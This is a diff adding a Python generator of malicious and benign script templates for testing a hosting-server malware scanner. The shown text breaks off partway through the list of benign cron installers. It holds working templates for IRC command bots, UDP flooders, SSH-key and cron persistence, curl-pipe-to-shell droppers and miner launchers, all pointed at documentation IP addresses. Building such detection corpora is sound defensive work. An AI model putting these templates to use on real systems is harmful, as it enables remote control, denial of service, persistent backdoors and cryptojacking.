@@ -1,0 +1,547 @@
+"""Bots and persistence scripts, round 2 (used by gen_variants.py and scan_scripts.sh).
+
+A third set of script templates, written from the technique descriptions only
+(without opening the corpus bots or the blind held-out set): PHP CLI IRC bots,
+UDP flooders in PHP, Perl and Python, SSH key persistence, cron persistence of a
+fetched or hidden program, download-and-run droppers in several languages and
+coin-miner launchers started from PHP or Python. And the look-alikes a hosting
+server really holds: IRC notification bots that post build results, UDP metric
+agents and health checks, ssh-copy-id-like admin tools, package cron
+installers, deployment scripts that verify a checksum.
+
+Everything here is text written to a temp dir and scanned, never run. Hosts are
+the documentation networks (RFC 5737) and .invalid names.
+"""
+
+import string
+
+TEST_NET = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]
+
+
+def _ip(r):
+    return r.choice(TEST_NET) % r.randint(2, 250)
+
+
+def _id(r, n=None):
+    w = r.choice(["sock", "conn", "link", "fp", "chan", "srv", "x", "h", "res", "io", "peer", "c0",
+                  "data", "line", "buf", "tmp", "obj", "q", "zz", "m"])
+    return w + "".join(r.choice(string.ascii_lowercase) for _ in range(r.randint(0, 3)))
+
+
+def _names(r, k):
+    out = []
+    while len(out) < k:
+        n = _id(r)
+        if n not in out:
+            out.append(n)
+    return out
+
+
+def _key(r):
+    alpha = string.ascii_letters + string.digits + "+/"
+    kind = r.choice(["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI",
+                     "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBB"])
+    return kind + "".join(r.choice(alpha) for _ in range(r.choice([48, 68, 200]))) + " " + r.choice(
+        ["root@localhost", "backup", "x@x", "admin@srv", ""])
+
+
+def _php_head(r):
+    return r.choice(["<?php\n", "#!/usr/bin/php\n<?php\n", "#!/usr/bin/env php\n<?php\n", "<?php\n// cli\n"])
+
+
+# ---------------------------------------------------------------------------
+# PHP CLI IRC bots
+
+
+def t_php_irc_bot(g):
+    """A PHP CLI IRC bot: connects to a server, registers, joins a channel, answers
+    PING and runs what PRIVMSG lines order (a shell command, a flood, a download)."""
+    r = g.rng
+    s, l, p, c, a = _names(r, 5)
+    v = {"s": s, "l": l, "p": p, "c": c, "a": a, "h": r.choice(["irc.example.invalid", _ip(r)]),
+         "port": r.choice([6667, 6697, 7000, 443]), "nick": r.choice(["php", "w", "bot"]) + str(r.randint(10, 999)),
+         "ch": r.choice(["#x", "#upd", "#priv", "#b0ts"]), "t": r.choice(["!", ".", "@"])}
+    conn = r.choice([
+        "$%(s)s = fsockopen('%(h)s', %(port)d, $en, $es, 30);\n",
+        "$%(s)s = @fsockopen(\"%(h)s\", %(port)d);\n",
+        "$%(s)s = stream_socket_client('tcp://%(h)s:%(port)d', $en, $es, 20);\n",
+        "$%(s)s = fsockopen('ssl://%(h)s', %(port)d);\n",
+    ]) % v
+    send = r.choice(["fputs", "fwrite"])
+    v["send"] = send
+    reg = r.choice([
+        "%(send)s($%(s)s, \"NICK %(nick)s\\r\\n\");\n%(send)s($%(s)s, \"USER %(nick)s 8 * :%(nick)s\\r\\n\");\n",
+        "%(send)s($%(s)s, \"USER \" . $n . \" 0 * :\" . $n . \"\\r\\n\");\n%(send)s($%(s)s, \"NICK \" . $n . \"\\r\\n\");\n",
+        "foreach (array(\"NICK %(nick)s\", \"USER %(nick)s %(nick)s %(nick)s :php\") as $r) %(send)s($%(s)s, $r . \"\\r\\n\");\n",
+    ]) % v
+    join = "%(send)s($%(s)s, \"JOIN %(ch)s\\r\\n\");\n" % v
+    run = r.choice([
+        "shell_exec($%(a)s)", "`$%(a)s`", "implode(\"\\n\", (exec($%(a)s, $o) !== false) ? $o : array())",
+        "system($%(a)s)", "passthru($%(a)s)",
+    ]) % v
+    out = ("foreach (explode(\"\\n\", (string)%s) as $o1) %s($%s, \"PRIVMSG %s :\" . $o1 . \"\\r\\n\");\n"
+           % (run, send, s, v["ch"]))
+    flood = ("$end = time() + (int)$%(p)s[5];\n"
+             "            $u = fsockopen('udp://' . $%(p)s[4], rand(1, 65535));\n"
+             "            while (time() < $end) fwrite($u, str_repeat('X', 1024));\n") % v
+    dl = ("file_put_contents($%(p)s[5], file_get_contents($%(p)s[4]));\n") % v
+    loop_style = r.randrange(3)
+    if loop_style == 0:
+        body = (
+            "while (!feof($%(s)s)) {\n"
+            "    $%(l)s = trim(fgets($%(s)s, 512));\n"
+            "    $%(p)s = explode(' ', $%(l)s);\n"
+            "    if ($%(p)s[0] == 'PING') { %(send)s($%(s)s, \"PONG \" . $%(p)s[1] . \"\\r\\n\"); continue; }\n"
+            "    if (isset($%(p)s[1]) && $%(p)s[1] == 'PRIVMSG') {\n"
+            "        $%(c)s = ltrim($%(p)s[3], ':');\n"
+            "        $%(a)s = implode(' ', array_slice($%(p)s, 4));\n"
+            "        switch ($%(c)s) {\n"
+            "        case '%(t)ssh':\n            OUT"
+            "            break;\n"
+            "        case '%(t)sudp':\n            FLOOD"
+            "            break;\n"
+            "        case '%(t)sget':\n            DL"
+            "            break;\n"
+            "        }\n"
+            "    }\n"
+            "}\n") % v
+    elif loop_style == 1:
+        body = (
+            "while ($%(l)s = fgets($%(s)s)) {\n"
+            "    if (preg_match('/^PING :?(.*)/', $%(l)s, $m)) %(send)s($%(s)s, \"PONG :$m[1]\\r\\n\");\n"
+            "    if (preg_match('/PRIVMSG (\\S+) :%(t)s(\\w+) ?(.*)/', $%(l)s, $m)) {\n"
+            "        $%(c)s = $m[2]; $%(a)s = trim($m[3]); $%(p)s = array_merge(array(0, 0, 0, 0), explode(' ', $%(a)s));\n"
+            "        if ($%(c)s == 'exec') { OUT }\n"
+            "        elseif ($%(c)s == 'flood') { FLOOD }\n"
+            "        elseif ($%(c)s == 'dl') { DL }\n"
+            "    }\n"
+            "}\n") % v
+    else:
+        body = (
+            "for (;;) {\n"
+            "    $%(l)s = fgets($%(s)s, 1024);\n"
+            "    if ($%(l)s === false) break;\n"
+            "    if (strpos($%(l)s, 'PING') === 0) { %(send)s($%(s)s, str_replace('PING', 'PONG', $%(l)s)); }\n"
+            "    $%(p)s = preg_split('/\\s+/', trim($%(l)s));\n"
+            "    if (count($%(p)s) > 3 && strtoupper($%(p)s[1]) === 'PRIVMSG' && $%(p)s[3] === ':%(t)scmd') {\n"
+            "        $%(a)s = implode(' ', array_slice($%(p)s, 4));\n"
+            "        OUT"
+            "    }\n"
+            "}\n") % v
+    body = body.replace("OUT", out).replace("FLOOD", flood).replace("DL", dl)
+    pre = r.choice(["set_time_limit(0);\n", "set_time_limit(0);\nignore_user_abort(true);\n", "@error_reporting(0);\n"])
+    pre += "$n = '%s';\n" % v["nick"]
+    return _php_head(r) + pre + conn + reg + join + body
+
+
+def t_irc_dispatch(g):
+    """IRC bots whose orders go through a parser: Python splitting the line and
+    joining the arguments into a command, a PHP class dispatching to cmd_* methods."""
+    r = g.rng
+    s, f, p, o = _names(r, 4)
+    v = {"s": s, "f": f, "p": p, "o": o, "h": r.choice(["irc.example.invalid", _ip(r)]),
+         "n": r.choice(["py", "zz", "u"]) + str(r.randint(10, 99)), "ch": r.choice(["#a", "#ops2", "#z"]),
+         "t": r.choice([".run", "!x", "@sh"])}
+    if r.random() < 0.5:
+        g.lang = "py"
+        run = r.choice(["subprocess.getoutput(\" \".join(%(p)s[4:]))",
+                        "os.popen(' '.join(%(p)s[4:])).read()",
+                        "subprocess.check_output(' '.join(%(p)s[4:]), shell=True).decode()"]) % v
+        return ("#!/usr/bin/env python3\nimport socket, subprocess, os\n"
+                "%(s)s = socket.socket()\n%(s)s.connect((\"%(h)s\", 6667))\n"
+                "%(s)s.send(b\"NICK %(n)s\\r\\n\")\n%(s)s.send(b\"USER %(n)s 0 * :%(n)s\\r\\n\")\n"
+                "%(s)s.send(b\"JOIN %(ch)s\\r\\n\")\n%(f)s = %(s)s.makefile(\"r\", encoding=\"latin-1\")\n"
+                "for raw in %(f)s:\n    %(p)s = raw.split()\n"
+                "    if %(p)s and %(p)s[0] == \"PING\":\n        %(s)s.send((\"PONG \" + %(p)s[1] + \"\\r\\n\").encode())\n"
+                "    elif len(%(p)s) > 4 and %(p)s[1] == \"PRIVMSG\" and %(p)s[3] == \":%(t)s\":\n"
+                "        %(o)s = RUN\n        for ln in %(o)s.splitlines():\n"
+                "            %(s)s.send((\"PRIVMSG %(ch)s :\" + ln + \"\\r\\n\").encode())\n" % v).replace("RUN", run)
+    g.lang = "php"
+    return ("<?php\nclass %(o)s {\n    private $s;\n"
+            "    function cmd_sh($a) { return shell_exec(trim($a)); }\n"
+            "    function cmd_get($a) { list($u, $f) = explode(' ', $a); return copy($u, $f) ? 'ok' : 'fail'; }\n"
+            "    function send($l) { fwrite($this->s, $l . \"\\r\\n\"); }\n    function run() {\n"
+            "        $this->s = fsockopen('%(h)s', 6667);\n        $this->send('NICK %(n)s');\n"
+            "        $this->send('USER %(n)s 0 * :x');\n        $this->send('JOIN %(ch)s');\n"
+            "        while (!feof($this->s)) {\n            $l = fgets($this->s);\n"
+            "            if (substr($l, 0, 4) == 'PING') { $this->send('PONG' . substr($l, 4)); continue; }\n"
+            "            if (preg_match('/ PRIVMSG (#\\S+) :\\.(\\w+) (.*)$/', trim($l), $m) && method_exists($this, 'cmd_' . $m[2])) {\n"
+            "                $r = call_user_func(array($this, 'cmd_' . $m[2]), $m[3]);\n"
+            "                $this->send(\"PRIVMSG $m[1] :\" . $r);\n            }\n        }\n    }\n}\n"
+            "(new %(o)s)->run();\n" % v)
+
+
+# ---------------------------------------------------------------------------
+# UDP flooders
+
+
+def t_udp_flood(g):
+    """A UDP flood to a target from argv or the request, for a number of seconds."""
+    r = g.rng
+    a, b, c, d = _names(r, 4)
+    v = {"a": a, "b": b, "c": c, "d": d, "n": r.choice([512, 1024, 1400, 65000])}
+    lang = r.choice(["php", "php", "pl", "py"])
+    g.lang = lang
+    if lang == "php":
+        src = r.choice(["$_GET['host']", "$_POST['ip']", "$argv[1]", "$_REQUEST['t']"])
+        dur = r.choice(["$_GET['time']", "$argv[2]", "(int)$_POST['s']", "60"])
+        v.update(src=src, dur=dur)
+        open_ = r.choice([
+            "$%(c)s = fsockopen('udp://' . $%(a)s, $%(d)s, $e, $s, 5);\n",
+            "$%(c)s = stream_socket_client(\"udp://$%(a)s:$%(d)s\");\n",
+            "$%(c)s = fsockopen(\"udp://{$%(a)s}\", $%(d)s);\n",
+        ])
+        loop = r.choice([
+            "while (time() < $%(b)s) {\n    $%(d)s = rand(1, 65000);\n    " + open_ +
+            "    fwrite($%(c)s, $pk);\n    fclose($%(c)s);\n}\n",
+            "$%(d)s = 53;\n" + open_ + "for ($i = 0; time() <= $%(b)s; $i++) {\n    fwrite($%(c)s, $pk);\n}\n",
+            "$%(c)s = socket_create(AF_INET, SOCK_DGRAM, SOL_UDP);\n"
+            "while (1) {\n    if (time() > $%(b)s) break;\n"
+            "    socket_sendto($%(c)s, $pk, strlen($pk), 0, $%(a)s, rand(1, 65535));\n}\n",
+        ])
+        code = ("<?php\nset_time_limit(0);\nignore_user_abort(1);\n$%(a)s = %(src)s;\n$%(b)s = time() + %(dur)s;\n"
+                "$pk = str_repeat(chr(rand(0, 255)), %(n)d);\n" + loop +
+                "echo 'done';\n")
+        return (code % v).replace("%(c)s", c).replace("%(a)s", a).replace("%(d)s", d)
+    if lang == "pl":
+        code = r.choice([
+            "#!/usr/bin/perl\nuse Socket;\nmy ($%(a)s, $%(d)s, $%(b)s) = @ARGV;\n"
+            "socket(my $%(c)s, PF_INET, SOCK_DGRAM, 17);\nmy $end = time() + $%(b)s;\n"
+            "my $iaddr = inet_aton($%(a)s);\n"
+            "while (time() < $end) {\n    my $port = $%(d)s ? $%(d)s : int(rand(65500)) + 1;\n"
+            "    send($%(c)s, 'A' x %(n)d, 0, pack_sockaddr_in($port, $iaddr));\n}\n",
+            "#!/usr/bin/perl\nuse IO::Socket::INET;\n$%(a)s = shift; $%(b)s = shift || 30;\n"
+            "$%(c)s = IO::Socket::INET->new(PeerAddr => $%(a)s, PeerPort => 80, Proto => 'udp') or die;\n"
+            "$t = time + $%(b)s;\nfor (;;) { last if time > $t; $%(c)s->send('x' x %(n)d); }\n",
+        ])
+        return code % v
+    code = r.choice([
+        "#!/usr/bin/env python3\nimport socket, sys, time\n%(a)s = sys.argv[1]\n%(d)s = int(sys.argv[2])\n"
+        "%(b)s = time.time() + int(sys.argv[3])\n%(c)s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "data = b'\\x00' * %(n)d\nwhile time.time() < %(b)s:\n    %(c)s.sendto(data, (%(a)s, %(d)s))\n",
+        "import socket as S, sys, time, os\n\ndef go(t, secs):\n    k = S.socket(S.AF_INET, S.SOCK_DGRAM)\n"
+        "    stop = time.time() + secs\n    while True:\n        if time.time() > stop:\n            break\n"
+        "        k.sendto(os.urandom(%(n)d), (t, 53))\n\nif __name__ == '__main__':\n"
+        "    go(sys.argv[1], float(sys.argv[2]))\n",
+        "#!/usr/bin/python3\nimport socket, random, time\n%(a)s = input('target: ')\n"
+        "%(b)s = int(input('seconds: '))\n%(c)s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "start = time.time()\nwhile time.time() - start < %(b)s:\n"
+        "    %(c)s.sendto(random._urandom(%(n)d), (%(a)s, random.randint(1, 65535)))\n",
+    ])
+    return code % v
+
+
+# ---------------------------------------------------------------------------
+# SSH key persistence
+
+
+def t_sshkey_persist(g):
+    """An attacker's public key appended to authorized_keys, often locked with chattr."""
+    r = g.rng
+    k = _key(r)
+    a, b = _names(r, 2)
+    v = {"k": k, "a": a, "b": b, "ip": _ip(r)}
+    code = r.choice([
+        "#!/bin/sh\nmkdir -p ~/.ssh\necho \"%(k)s\" >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n"
+        "chattr +i ~/.ssh/authorized_keys 2>/dev/null\n",
+        "#!/bin/bash\nK='%(k)s'\nfor d in /root /home/*; do\n  mkdir -p \"$d/.ssh\" 2>/dev/null\n"
+        "  grep -q \"$K\" \"$d/.ssh/authorized_keys\" 2>/dev/null || echo \"$K\" >> \"$d/.ssh/authorized_keys\"\ndone\n",
+        "#!/bin/sh\nchattr -ia /root/.ssh/authorized_keys 2>/dev/null\n"
+        "curl -fsSL http://%(ip)s/k.pub >> /root/.ssh/authorized_keys\nchattr +ia /root/.ssh/authorized_keys\n",
+        "<?php\n$%(a)s = getenv('HOME') ?: '/home/' . get_current_user();\n@mkdir($%(a)s . '/.ssh', 0700);\n"
+        "file_put_contents($%(a)s . '/.ssh/authorized_keys', \"\\n%(k)s\\n\", FILE_APPEND);\n"
+        "@chmod($%(a)s . '/.ssh/authorized_keys', 0600);\necho 'ok';\n",
+        "<?php\nif (isset($_POST['k'])) {\n    $%(b)s = fopen($_SERVER['DOCUMENT_ROOT'] . '/../.ssh/authorized_keys', 'a');\n"
+        "    fwrite($%(b)s, $_POST['k'] . \"\\n\");\n    fclose($%(b)s);\n}\n",
+        "#!/usr/bin/env python3\nimport os\n%(a)s = os.path.expanduser('~/.ssh')\nos.makedirs(%(a)s, exist_ok=True)\n"
+        "with open(os.path.join(%(a)s, 'authorized_keys'), 'a') as %(b)s:\n    %(b)s.write('%(k)s\\n')\n"
+        "os.chmod(os.path.join(%(a)s, 'authorized_keys'), 0o600)\nos.system('chattr +i ' + %(a)s + '/authorized_keys')\n",
+        "#!/usr/bin/perl\nmy $%(a)s = \"$ENV{HOME}/.ssh/authorized_keys\";\nmkdir \"$ENV{HOME}/.ssh\", 0700;\n"
+        "open(my $%(b)s, '>>', $%(a)s) or exit;\nprint $%(b)s \"%(k)s\\n\";\nclose $%(b)s;\nchmod 0600, $%(a)s;\n",
+        "<?php\nshell_exec('mkdir -p ~/.ssh; echo \"%(k)s\" >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys');\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else ("pl" if "perl" in code else "sh"))
+    return code % v
+
+
+# ---------------------------------------------------------------------------
+# cron persistence
+
+
+def t_cron_persist(g):
+    """A crontab line (or /etc/cron.d file, or @reboot) that restarts a downloader or
+    a hidden binary."""
+    r = g.rng
+    ip = _ip(r)
+    what = r.choice([
+        "curl -fsSL http://%s/u.sh | sh" % ip,
+        "wget -q -O- http://%s:8080/s | bash" % ip,
+        "/tmp/.X11-unix/.%s" % r.choice(["x", "sshd", "kd"]),
+        "$HOME/.cache/.%s >/dev/null 2>&1" % r.choice(["upd", "sys"]),
+        "cd /dev/shm && ./.%s" % r.choice(["k", "i"]),
+        "wget -q -O - http://%s/p | perl" % ip,
+        "curl -s http://%s/x.py | python3 -" % ip,
+        "(wget -qO /tmp/.u http://%s/u || curl -so /tmp/.u http://%s/u) && chmod +x /tmp/.u && /tmp/.u" % (ip, ip),
+    ])
+    when = r.choice(["* * * * *", "*/5 * * * *", "@reboot", "*/15 * * * *", "0 * * * *"])
+    v = {"w": what, "t": when, "f": r.choice(["sys", "apt-update", "0hourly2", ".x"])}
+    code = r.choice([
+        "#!/bin/sh\ncrontab -l 2>/dev/null | { cat; echo \"%(t)s %(w)s\"; } | crontab -\n",
+        "#!/bin/bash\ncrontab -l > /tmp/.c 2>/dev/null\necho '%(t)s %(w)s' >> /tmp/.c\ncrontab /tmp/.c\nrm -f /tmp/.c\n",
+        "#!/bin/sh\necho '%(t)s root %(w)s' > /etc/cron.d/%(f)s\nchmod 644 /etc/cron.d/%(f)s\n",
+        "#!/bin/sh\ncat > /etc/cron.d/%(f)s <<EOF\nSHELL=/bin/sh\n%(t)s root %(w)s\nEOF\n",
+        "#!/bin/sh\n(\n  crontab -l 2>/dev/null | grep -v '%(f)s'\n  echo '%(t)s %(w)s #%(f)s'\n) | crontab -\n",
+        "#!/usr/bin/env python3\nimport subprocess\nline = '%(t)s %(w)s\\n'\n"
+        "old = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
+        "subprocess.run(['crontab', '-'], input=old + line, text=True)\n",
+        "<?php\n$c = '%(t)s %(w)s';\nexec('(crontab -l 2>/dev/null; echo \"' . $c . '\") | crontab -');\n",
+        "<?php\n$t = tempnam(sys_get_temp_dir(), 'c');\nfile_put_contents($t, shell_exec('crontab -l') . \"%(t)s %(w)s\\n\");\n"
+        "shell_exec('crontab ' . $t);\nunlink($t);\n",
+        "#!/usr/bin/perl\nopen(my $c, '|-', 'crontab -') or die;\nprint $c `crontab -l 2>/dev/null`;\n"
+        "print $c \"%(t)s %(w)s\\n\";\nclose $c;\n",
+        "#!/bin/sh\necho '%(t)s %(w)s' >> /var/spool/cron/crontabs/$(whoami)\n",
+        "#!/bin/sh\n(crontab -l; echo \"%(t)s %(w)s\") | crontab -; echo ok\n",
+        "#!/bin/sh\nprintf '%%s\\n' '%(t)s %(w)s' > /tmp/.ct && crontab -u $(id -un) /tmp/.ct\n",
+        "#!/usr/bin/perl\nsystem(\"(crontab -l 2>/dev/null; echo '%(t)s %(w)s') | crontab -\");\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else ("pl" if "perl" in code else "sh"))
+    return code % v
+
+
+# ---------------------------------------------------------------------------
+# droppers
+
+
+def t_dropper(g):
+    """Download a program to a temp dir, make it executable, run it in the background
+    and often remove it."""
+    r = g.rng
+    ip = _ip(r)
+    u = r.choice(["http://%s/x86" % ip, "http://%s:8000/b" % ip, "https://cdn.example.invalid/%s" % r.choice(["a", "j.bin"]),
+                  "ftp://%s/k" % ip])
+    f = r.choice(["/tmp/.x", "/dev/shm/.k", "/var/tmp/.sysd", "/tmp/kworker", "/dev/shm/php-fpm"])
+    a, b = _names(r, 2)
+    v = {"u": u, "f": f, "a": a, "b": b}
+    code = r.choice([
+        "#!/bin/sh\n%(a)s=%(f)s\n%(b)s=%(u)s\nwget -q \"$%(b)s\" -O \"$%(a)s\" || curl -s -o \"$%(a)s\" \"$%(b)s\"\n"
+        "chmod +x \"$%(a)s\"\nnohup \"$%(a)s\" >/dev/null 2>&1 &\nsleep 2\nrm -f \"$%(a)s\"\n",
+        "#!/bin/bash\ncd /dev/shm || cd /tmp\ncurl -sk %(u)s -o .%(a)s\nchmod 755 .%(a)s\n./.%(a)s &\nrm -f .%(a)s\n",
+        "#!/bin/sh\nfor d in /dev/shm /tmp /var/tmp; do [ -w $d ] && cd $d && break; done\n"
+        "wget -q %(u)s -O %(a)s\nchmod +x %(a)s\nsetsid ./%(a)s &\n",
+        "#!/usr/bin/env python3\nimport os, subprocess, urllib.request\n%(a)s = '%(f)s'\n"
+        "with open(%(a)s, 'wb') as fh:\n    fh.write(urllib.request.urlopen('%(u)s').read())\n"
+        "os.system('chmod +x ' + %(a)s)\nsubprocess.Popen([%(a)s], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+        "os.remove(%(a)s)\n",
+        "#!/usr/bin/perl\nuse LWP::UserAgent;\nmy $%(b)s = LWP::UserAgent->new;\n"
+        "$%(b)s->get('%(u)s', ':content_file' => '%(f)s');\nsystem('chmod +x %(f)s; %(f)s &');\n",
+        "<?php\n$%(a)s = '%(f)s';\nfile_put_contents($%(a)s, file_get_contents('%(u)s'));\nchmod($%(a)s, 0755);\n"
+        "exec($%(a)s . ' > /dev/null 2>&1 &');\n@unlink($%(a)s);\n",
+        "<?php\n$%(b)s = sys_get_temp_dir() . '/.%(a)s';\ncopy('%(u)s', $%(b)s);\n@chmod($%(b)s, 0777);\n"
+        "shell_exec('nohup ' . $%(b)s . ' >/dev/null 2>&1 &');\n",
+        "#!/bin/sh\nwget -q -O %(f)s %(u)s\nchmod +x %(f)s\n%(f)s\n",
+        "<?php\n$%(b)s = '%(u)s';\n$%(a)s = file_get_contents($%(b)s);\nfile_put_contents('%(f)s', $%(a)s);\n"
+        "chmod('%(f)s', 0755);\nsystem('%(f)s');\n",
+        "#!/usr/bin/perl\nuse LWP::Simple;\ngetstore('%(u)s', '%(f)s');\nchmod 0755, '%(f)s';\nexec '%(f)s';\n",
+        "#!/usr/bin/env python3\nimport urllib.request as u, os, subprocess\nu.urlretrieve('%(u)s', '%(f)s')\n"
+        "os.system('chmod 755 %(f)s')\nsubprocess.call(['%(f)s'])\n",
+        "#!/usr/bin/env python3\nimport requests, os, stat, subprocess\np = '%(f)s'\n"
+        "open(p, 'wb').write(requests.get('%(u)s', verify=False).content)\n"
+        "os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nsubprocess.Popen(['nohup', p], start_new_session=True)\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else ("pl" if "perl" in code else "sh"))
+    return code % v
+
+
+# ---------------------------------------------------------------------------
+# miner launchers from code
+
+
+def t_miner_code(g):
+    """A coin miner started from PHP or Python: the pool and wallet as arguments."""
+    r = g.rng
+    pool = r.choice(["stratum+tcp://pool.example.invalid:3333", "%s:14444" % _ip(r), "stratum+ssl://xmr.example.invalid:443"])
+    wal = "4" + "".join(r.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))
+    b = r.choice(["./kthreadd", "/tmp/.x/xmrig", "/dev/shm/.m/sysupd", "./php-fpm"])
+    v = {"p": pool, "w": wal, "b": b}
+    code = r.choice([
+        "<?php\nexec('nohup %(b)s -o %(p)s -u %(w)s -p x --donate-level 1 > /dev/null 2>&1 &');\n",
+        "<?php\n$a = array('-o', '%(p)s', '-u', '%(w)s', '-k', '-B');\n"
+        "shell_exec('%(b)s ' . implode(' ', $a));\n",
+        "#!/usr/bin/env python3\nimport subprocess\nsubprocess.Popen(['%(b)s', '-o', '%(p)s', '-u', '%(w)s', '-p', 'x',"
+        " '--cpu-max-threads-hint', '50'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
+        "#!/usr/bin/env python3\nimport os\nos.system('pkill -f xmrig; %(b)s --url=%(p)s --user=%(w)s --pass=x -B')\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else "py"
+    return code % v
+
+
+# ---------------------------------------------------------------------------
+# benign look-alikes
+
+
+def b_irc_notify(g):
+    """A CI notification bot: connects, registers, waits for the welcome, posts the
+    build result (from a fixed git command) and quits."""
+    r = g.rng
+    ch = r.choice(["#ci", "#builds", "#ops"])
+    code = r.choice([
+        "<?php\n// post the build result to IRC (CI hook)\n$s = fsockopen('irc.example.invalid', 6667, $e, $m, 10);\n"
+        "fwrite($s, \"NICK ci-bot\\r\\nUSER ci-bot 0 * :CI notifier\\r\\n\");\n"
+        "while (($line = fgets($s, 512)) !== false) {\n"
+        "    if (strpos($line, 'PING') === 0) fwrite($s, 'PONG ' . substr($line, 5));\n"
+        "    if (strpos($line, ' 001 ') !== false) break;\n}\n"
+        "$msg = trim(shell_exec('git log -1 --pretty=%s'));\n"
+        "fwrite($s, \"JOIN " + ch + "\\r\\nPRIVMSG " + ch + " :build ok: $msg\\r\\nQUIT :bye\\r\\n\");\nfclose($s);\n",
+        "#!/usr/bin/env python3\n\"\"\"Announce a deploy in the ops channel.\"\"\"\nimport socket, subprocess, sys\n"
+        "s = socket.create_connection(('irc.example.invalid', 6667))\n"
+        "s.sendall(b'NICK deploybot\\r\\nUSER deploybot 0 * :deploy\\r\\n')\nbuf = b''\n"
+        "while b' 001 ' not in buf:\n    buf = s.recv(4096)\n    if buf.startswith(b'PING'):\n"
+        "        s.sendall(b'PONG' + buf[4:])\n"
+        "rev = subprocess.check_output(['git', 'rev-parse', '--short', 'HEAD']).decode().strip()\n"
+        "s.sendall(('JOIN " + ch + "\\r\\nPRIVMSG " + ch + " :deployed %s by %s\\r\\nQUIT\\r\\n' % (rev, sys.argv[1])).encode())\n",
+        "#!/usr/bin/perl\nuse strict;\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.invalid:6667') or die;\n"
+        "print $s \"NICK nagios\\r\\nUSER nagios 0 * :alerts\\r\\n\";\nwhile (my $l = <$s>) {\n"
+        "    print $s \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n    last if $l =~ / 001 /;\n}\n"
+        "my $state = `cat /var/lib/nagios/status.txt`;\n"
+        "print $s \"JOIN " + ch + "\\r\\nPRIVMSG " + ch + " :$ARGV[0]\\r\\nQUIT\\r\\n\";\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else "pl")
+    return code
+
+
+def b_udp_metrics(g):
+    """A statsd/syslog-style metrics agent: a datagram every few seconds to a fixed
+    collector, and a one-shot DNS health check."""
+    r = g.rng
+    code = r.choice([
+        "#!/usr/bin/env python3\nimport socket, time, os\nSTATSD = ('127.0.0.1', 8125)\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n"
+        "    load = os.getloadavg()[0]\n    s.sendto(('host.load:%f|g' % load).encode(), STATSD)\n    time.sleep(10)\n",
+        "<?php\n// send one counter to the local statsd\n$fp = fsockopen('udp://127.0.0.1', 8125, $en, $es, 1);\n"
+        "if ($fp) { fwrite($fp, 'app.signup:1|c'); fclose($fp); }\n",
+        "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'logs.example.invalid',"
+        " PeerPort => 514, Proto => 'udp');\nmy $end = time + 3600;\nwhile (time < $end) {\n"
+        "    $s->send(\"<13>heartbeat\");\n    sleep 60;\n}\n",
+        "#!/usr/bin/env python3\n\"\"\"Check that each resolver answers (one query per server).\"\"\"\nimport socket, sys\n"
+        "for server in sys.argv[1:]:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.settimeout(2)\n"
+        "    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x01', (server, 53))\n"
+        "    try:\n        s.recvfrom(512)\n        print(server, 'ok')\n    except socket.timeout:\n        print(server, 'timeout')\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else "pl")
+    return code
+
+
+def b_ssh_copy_id(g):
+    """An ssh-copy-id-like admin tool (the key from a file the admin names) and an
+    authorized_keys auditor."""
+    r = g.rng
+    code = r.choice([
+        "#!/bin/sh\n# install-key: copy my public key to a host\nKEY=${2:-$HOME/.ssh/id_ed25519.pub}\n"
+        "[ -r \"$KEY\" ] || { echo \"no key $KEY\"; exit 1; }\n"
+        "ssh \"$1\" 'umask 077; mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys' < \"$KEY\"\n",
+        "#!/usr/bin/env python3\n\"\"\"List the keys in every user's authorized_keys (audit).\"\"\"\nimport glob\n"
+        "for path in glob.glob('/home/*/.ssh/authorized_keys'):\n    with open(path) as f:\n"
+        "        for line in f:\n            if line.strip() and not line.startswith('#'):\n"
+        "                print(path, line.split()[-1])\n",
+        "#!/bin/bash\n# rotate-keys: write authorized_keys from the reviewed team file\nset -e\n"
+        "install -m 600 -o \"$1\" /etc/ssh/team_keys/\"$1\".pub /home/\"$1\"/.ssh/authorized_keys\n",
+    ])
+    g.lang = "py" if "python" in code else "sh"
+    return code
+
+
+def b_cron_installer(g):
+    """A package's cron installer, a backup job and a health-check ping (fetched but
+    not run)."""
+    r = g.rng
+    code = r.choice([
+        "#!/bin/sh\nset -e\ncat > /etc/cron.d/myapp <<EOF\n# myapp maintenance\n17 3 * * * www-data /usr/bin/php /var/www/myapp/cron.php > /dev/null\nEOF\n"
+        "chmod 644 /etc/cron.d/myapp\n",
+        "#!/bin/bash\n(crontab -l 2>/dev/null; echo \"30 2 * * * $PWD/backup.sh >> $PWD/backup.log 2>&1\") | crontab -\n",
